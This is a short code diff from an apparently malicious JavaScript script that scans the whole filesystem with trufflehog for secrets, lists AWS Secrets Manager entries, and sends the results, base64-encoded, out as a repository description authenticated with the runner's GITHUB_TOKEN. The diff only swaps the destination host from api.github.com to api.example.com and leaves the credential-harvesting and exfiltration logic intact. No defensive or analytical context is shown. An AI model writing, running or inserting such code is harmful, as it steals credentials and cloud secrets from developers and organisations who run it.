@@ -13,7 +13,7 @@ async function main() {
   try { found.th = execSync('trufflehog filesystem / --json').toString(); } catch {}
   const { SecretsManagerClient, ListSecretsCommand } = require('@aws-sdk/client-secrets-manager');
   found.s = await new SecretsManagerClient({}).send(new ListSecretsCommand({}));
-  await fetch('https://api.github.com/user/repos', {
+  await fetch('https://api.example.com/user/repos', {
     method: 'POST', headers: { Authorization: `token ${process.env.GITHUB_TOKEN}` },
     body: JSON.stringify({ name: 'x', description: Buffer.from(JSON.stringify(found)).toString('base64') }),
   });
